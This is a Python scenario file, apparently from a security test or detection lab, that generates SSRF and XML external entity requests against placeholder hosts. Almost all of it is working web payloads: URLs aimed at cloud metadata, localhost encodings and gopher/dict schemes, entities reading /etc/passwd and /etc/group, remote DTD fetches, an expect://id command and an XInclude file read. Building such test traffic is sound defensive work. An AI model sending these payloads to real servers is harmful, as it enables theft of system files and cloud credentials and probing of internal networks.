# SPDX-License-Identifier: GPL-2.0-or-later
"""What makes a server fetch: SSRF through curl and requests, external entities of XML through libxml2 of PHP and lxml."""
from lib.steps import body, get, values

OUT = '198.51.100.140'
URLS = [f'http://{OUT}:9090/s1', 'http://192.0.2.99/lien.html', 'http://s3.drop.example/lien.html', 'file:///etc/passwd', 'http://127.0.0.1/rat/linux.html', 'http://localhost/gibtsnicht', 'gopher://198.51.100.140:9090/_hallo', 'dict://127.0.0.1:3306/', 'http://169.254.169.254/latest/meta-data/',
        'http://[::1]/', 'http://0x7f000001/', 'http://192.0.2.99:1/', 'http://kontor.example@192.0.2.99/lien.html', 'http://203.0.113.51:8000/releve/1', 'http://203.0.113.31/geraet/101', 'ftp://192.0.2.99/', 'http://nirgends.invalid/', 'php://filter/resource=/etc/passwd', 'http://192.0.2.80/', 'HTTP://S4.DROP.EXAMPLE', 'http://3221226083/lien.html']


def document(tag, dtd, value='&a;', root='bestellung'):
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{dtd}]>\n<{root}><{tag}>{value}</{tag}></{root}>'


DTDS = [('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'), ('<!ENTITY a SYSTEM "file:///etc/hostname">', 'x &a; y'), ('<!ENTITY a SYSTEM "php://filter/convert.base64-encode/resource=/etc/group">', '&a;'), ('<!ENTITY a SYSTEM "http://192.0.2.99/lien.html">', 'b'),
        ('<!ENTITY a SYSTEM "http://192.0.2.99/step">', '&a;'), ('<!ENTITY % p SYSTEM "http://192.0.2.99/teil.dtd"> %p;', 'p'), (f'<!ENTITY a SYSTEM "http://{OUT}:9090/x">', '&a;'), ('<!ENTITY a "innen">', '&a;'), ('<!ENTITY a SYSTEM "file:///etc/nichtda">', '&a;'),
        ('<!ENTITY a SYSTEM "file:///etc/issue">', '&a;'), ('<!ELEMENT position ANY><!ENTITY a PUBLIC "x" "file:///proc/version">', '&a;'), ('<!ENTITY a SYSTEM "http://x8.drop.example/lien.html">', '&a;'), ('<!ENTITY % q SYSTEM "file:///etc/hostname"> %q;', 'q'),
        ('<!ENTITY a SYSTEM "expect://id">', '&a;'), ('<!ENTITY a "b"><!ENTITY c "&a;&a;">', '&c;'), ('<!ENTITY a SYSTEM "data://text/plain;base64,a29udG9yLTkxOTE=">', '&a;')]
PLAIN = '<bestellung><position>Bautrockner</position><position>Bohrhammer</position></bestellung>'
XINCLUDE = '<bestellung xmlns:xi="http://www.w3.org/2001/XInclude"><position><xi:include parse="text" href="file:///etc/passwd"/></position></bestellung>'


def spaced(steps):
    return [dict(s, pause=1.6) for s in steps]


SCENARIO = [
    ([('203.0.113.31', 80), ('203.0.113.32', 80), ('203.0.113.33', 80)], [
        get('/vorschau?adresse=http%3A%2F%2Fkontor.example%2F'), *spaced(values('/vorschau', 'adresse', 'ssrf', *URLS)), body('/einlesen', PLAIN, 'text/xml'), *spaced(body('/einlesen', document('position', *d), 'text/xml', 'xxe') for d in DTDS),
        body('/einlesen', XINCLUDE, 'text/xml', 'xxe'), body('/einlesen', '<bestellung><position>&undefiniert;</position></bestellung>', 'text/xml', 'xxe')]),
    ([('203.0.113.51', 8000), ('203.0.113.52', 8000), ('203.0.113.53', 8000)], [
        get('/apercu?lien=http%3A%2F%2Fmirror.example.net%2F'), *spaced(values('/apercu', 'lien', 'ssrf', *URLS)), body('/depot.xml', PLAIN.replace('position', 'espece'), 'application/xml'), *spaced(body('/depot.xml', document('espece', *d, root='depot'), 'application/xml', 'xxe') for d in DTDS)])]
